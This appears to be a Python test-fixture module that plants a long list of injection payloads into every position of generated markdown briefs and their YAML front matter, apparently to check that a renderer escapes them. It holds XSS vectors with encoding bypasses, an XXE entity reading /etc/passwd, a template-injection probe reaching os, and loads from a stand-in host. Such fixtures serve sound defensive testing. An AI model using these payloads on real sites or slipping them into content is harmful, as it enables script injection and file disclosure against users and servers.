"""Ways to smuggle something active into a page, and the places of a brief to try them in.

Every payload carries the word `rrpwn`, so that it can be recognised wherever it ends up.
"""

from __future__ import annotations

PAYLOADS = (
    # elements
    "<script>rrpwn(1)</script>",
    "<SCRIPT SRC=//rrpwn.example></SCRIPT>",
    "<scr<script>ipt>rrpwn(1)</scr</script>ipt>",
    "<script\n>rrpwn(1)</script\n>",
    "<img src=x onerror=rrpwn(1)>",
    "<img/src=x/onerror=rrpwn(1)>",
    "<img src=x onerror=rrpwn(1)//",
    "<svg onload=rrpwn(1)>",
    "<svg><script>rrpwn(1)</script></svg>",
    "<svg><a xlink:href=javascript:rrpwn(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=rrpwn(1) attributeName=x>",
    "<math><mtext><img src onerror=rrpwn(1)></mtext></math>",
    "<iframe srcdoc='<script>rrpwn(1)</script>'></iframe>",
    "<iframe src=javascript:rrpwn(1)>",
    "<object data=javascript:rrpwn(1)>",
    "<embed src=data:text/html,rrpwn>",
    "<form action=javascript:rrpwn(1)><button>x",
    "<button formaction=javascript:rrpwn(1)>x</button>",
    "<base href=//rrpwn.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:rrpwn(1)'>",
    "<link rel=stylesheet href=//rrpwn.example>",
    "<style>@import '//rrpwn.example'</style>",
    "<style>*{background:url(javascript:rrpwn(1))}</style>",
    "<details open ontoggle=rrpwn(1)>",
    "<video><source onerror=rrpwn(1)>",
    "<input autofocus onfocus=rrpwn(1)>",
    "<body onload=rrpwn(1)>",
    "<marquee onstart=rrpwn(1)>x</marquee>",
    "<template><script>rrpwn(1)</script></template>",
    "<p style=position:fixed;inset:0>rrpwn</p>",
    "<a href=javascript:rrpwn(1)>x</a>",
    "<x onclick=rrpwn(1)>x</x>",
    # out of what stands around it
    '"><script>rrpwn(1)</script>',
    "'><img src=x onerror=rrpwn(1)>",
    '" onmouseover="rrpwn(1)',
    "' onmouseover='rrpwn(1)",
    "x onmouseover=rrpwn(1) y=",
    "</title><script>rrpwn(1)</script>",
    "</script><script>rrpwn(1)</script>",
    "</style><script>rrpwn(1)</script>",
    "</textarea></template><script>rrpwn(1)</script>",
    "</text></svg><script>rrpwn(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=rrpwn(1)>'>",
    "--><script>rrpwn(1)</script>",
    "]]><script>rrpwn(1)</script>",
    "</code></pre><script>rrpwn(1)</script>",
    "</td></tr></table><script>rrpwn(1)</script>",
    "';rrpwn(1);'",
    '";rrpwn(1);"',
    "${rrpwn(1)} #{rrpwn} <%= rrpwn %>",
    # addresses
    "javascript:rrpwn(1)",
    "JaVaScRiPt:rrpwn(1)",
    "java\tscript:rrpwn(1)",
    "java&#10;script:rrpwn(1)",
    "java&Tab;script&colon;rrpwn(1)",
    "&#106;avascript:rrpwn(1)",
    "&#x6A;&#x61;vascript:rrpwn(1)",
    "javascript&colon;rrpwn(1)",
    "%6aavascript:rrpwn(1)",
    "\u200bjavascript:rrpwn(1)",
    "\x01javascript:rrpwn(1)",
    "java\\script:rrpwn(1)",
    "vbscript:rrpwn(1)",
    "data:text/html,<script>rrpwn(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5ycnB3bigpPC9zY3JpcHQ+rrpwn",
    "data:image/svg+xml,<svg onload=rrpwn(1)>",
    "feed:javascript:rrpwn(1)",
    "view-source:javascript:rrpwn(1)",
    "jar:javascript:rrpwn(1)",
    "file:///etc/rrpwn",
    "blob:https://rrpwn.example",
    "x:rrpwn",
    # written otherwise
    "&lt;script&gt;rrpwn(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;rrpwn(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;rrpwn(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=rrpwn(1)&#x3e;",
    "%3Cscript%3Errpwn(1)%3C/script%3E",
    "\\u003cscript\\u003errpwn(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-rrpwn(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1errpwn(1)\uff1c/script\uff1e",
    "<\u200bscript>rrpwn(1)</\u200bscript>",
    "<\u017fcript>rrpwn(1)</\u017fcript>",
    "\\<script\\>rrpwn(1)\\</script\\>",
    # other languages
    "<!-- rrpwn --><img src=x onerror=rrpwn(1)>",
    "<!--><script>rrpwn(1)</script>",
    "<![CDATA[<script>rrpwn(1)</script>]]>",
    "<?php rrpwn() ?>",
    "<!DOCTYPE x [<!ENTITY rrpwn SYSTEM 'file:///etc/passwd'>]>",
    "{{rrpwn}}{{cycler.__init__.__globals__.os}}",
    "{% raw %}rrpwn{% include 'x' %}",
    "{onclick=rrpwn(1)}",
    "{: onclick=rrpwn(1) }",
    "{#rrpwn onclick=rrpwn(1)}",
    "::error::rrpwn ##[error]rrpwn",
    "\u202errpwn\u2066 \u2028rrpwn\u2029",
    "\x1b]8;;javascript:rrpwn\x07x",
)

CONTEXTS = (
    "{0}",
    "text {0} text",
    "# {0}",
    "## {0}",
    "## Goals {0}",
    "### {0} {{#rrpwn}}",
    "{0}\n===",
    "- {0}",
    "1. {0}",
    "- G1 {0}",
    "- [ ] {0}",
    "- [x] {{#key-one}} {0}",
    "| {0} | b |\n| --- | --- |\n| M1 | {0} |",
    "## Metrics\n\n| id | metric | target |\n| --- | --- | --- |\n| M1 {0} | {0} | {0} |",
    "> {0}",
    "> ## {0}",
    "[{0}](https://example.org)",
    "[x]({0})",
    "[x](<{0}>)",
    "[x](../{0})",
    "[x](#{0})",
    "[x](https://example.org/{0})",
    '[x](https://example.org "{0}")',
    "<{0}>",
    "![{0}](a.png)",
    "![x]({0})",
    "![x](<{0}>)",
    '![x](a.png "{0}")',
    "[![{0}](a.png)](https://example.org)",
    "[ref]: {0}\n\n[ref]",
    "[ref2]: <{0}>\n\n[x][ref2] ![x][ref2]",
    '[ref3]: https://example.org "{0}"\n\n[ref3]',
    "[{0}]: https://example.org\n\n[{0}]",
    "`{0}`",
    "**{0}** _{0}_ ~~{0}~~",
    "**Owner:** {0}",
    "TBD {0}",
    "[date {0}]",
    "S1 everyone {0}",
    "OBJ-{0}",
    "other-brief#G1{0}",
    "<!-- {0} -->",
    "<!--\n{0}\n-->",
    "    {0}",
    "~~~ {0}\n{0}\n~~~",
)

# Every kind of value that the front matter of a brief may hold; {0} is the quoted payload.
FRONT = """\
title: {0}
status: planned
kind: {0}
tier: {0}
lang: en
owner: {0}
team: {{content: {0}, data: {0}, approver: {0}}}
supports: [OBJ-2027-2, {0}]
parent: {0}
depends_on: [{0}]
repeats: {0}
supersedes: {0}
evidence_from: [{0}]
created: {0}
updated: {0}
launch: {0}
ends: {0}
tz: {0}
review_by: {0}
retro_by: {0}
audience: [{0}]
channels: [{0}, email]
primary_metric: {0}
budget: {{amount: {0}, currency: {0}}}
personalization: {0}
consent: {{basis: {0}, record: {0}}}
contact_policy: {0}
reviewers: [{{by: {0}, on: {0}, outcome: {0}, note: {0}}}]
tags: [{0}]
goals: [{0}]
risks: [{0}]
description: {0}
hide: [{0}]
template: {0}
search: {{exclude: {0}}}
icon: {0}
{0}: {0}
lint:
  ignore:
    - {{rule: {0}, reason: {0}, by: {0}, until: 2026-12-01, confirmed_by: {0}}}
    - {{rule: metric-missing, reason: {0}, by: {0}, until: 2026-12-01}}
"""
# What decides how a file is read, in a second brief.
IDENTITY = """\
id: {0}
status: {0}
lang: {0}
title: A plain title
hold: {{since: 2026-01-01, until: 2026-02-01, reason: {0}}}
dropped: {{on: {0}, reason: {0}, lesson: {0}}}
launch: 2026-01-01
ends: 2026-02-01
"""


def quoted(payload: str) -> str:
    """The payload as a YAML text."""
    flat = payload.replace("\n", " ")
    return "'" + flat.replace("'", "''") + "'"


def briefs(number: int, payload: str) -> dict[str, str]:
    """Two briefs that hold the payload wherever one can stand."""
    name = f"playbooks/briefs/odd-{number:03}"
    text = "\n\n".join(context.format(payload) for context in CONTEXTS)
    front = FRONT.format(quoted(payload))
    return {
        f"{name}.md": f"---\nid: odd-{number:03}\n{front}---\n\n{text}\n",
        f"{name}-b.md": f"---\n{IDENTITY.format(quoted(payload))}---\n\n## Goals\n\n- {payload}\n",
    }
